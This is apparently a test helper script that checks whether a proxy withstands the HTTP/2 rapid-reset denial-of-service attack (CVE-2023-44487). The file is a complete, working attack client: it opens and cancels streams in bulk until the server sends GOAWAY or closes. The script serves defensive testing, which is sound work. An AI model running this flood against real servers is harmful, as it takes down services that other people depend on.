"""The HTTP/2 rapid-reset attack (CVE-2023-44487) for tests/tests/proxy_http2_attacks.rs:
open streams and reset each at once, as fast as the socket takes them, until the server
sends GOAWAY or closes. Prints a JSON line: streams opened, GOAWAY seen and its error code,
whether the connection closed.

    rapid_reset.py HOST PORT AUTHORITY PATH MAX_STREAMS
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.errors


def main(host, port, authority, path, max_streams):
    sock = socket.create_connection((host, int(port)))
    sock.settimeout(5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    opened = 0
    goaway = None
    closed = False
    deadline = time.time() + 20
    sock.setblocking(False)
    while opened < int(max_streams) and goaway is None and not closed and time.time() < deadline:
        for _ in range(50):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, [
                (":method", "GET"), (":scheme", "http"), (":authority", authority),
                (":path", path)], end_stream=True)
            conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
            opened += 1
        try:
            sock.sendall(conn.data_to_send())
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            closed = True
            break
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    closed = True
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = int(event.error_code)
                sock.sendall(conn.data_to_send())
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            closed = True
        except h2.exceptions.ProtocolError:
            closed = True
    # After GOAWAY the server closes: wait for it.
    sock.setblocking(True)
    sock.settimeout(5)
    try:
        while not closed:
            data = sock.recv(65536)
            if not data:
                closed = True
                break
            try:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated) and goaway is None:
                        goaway = int(event.error_code)
            except h2.exceptions.ProtocolError:
                pass
    except OSError:
        closed = True
    print(json.dumps({"opened": opened, "goaway": goaway, "closed": closed}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:6])
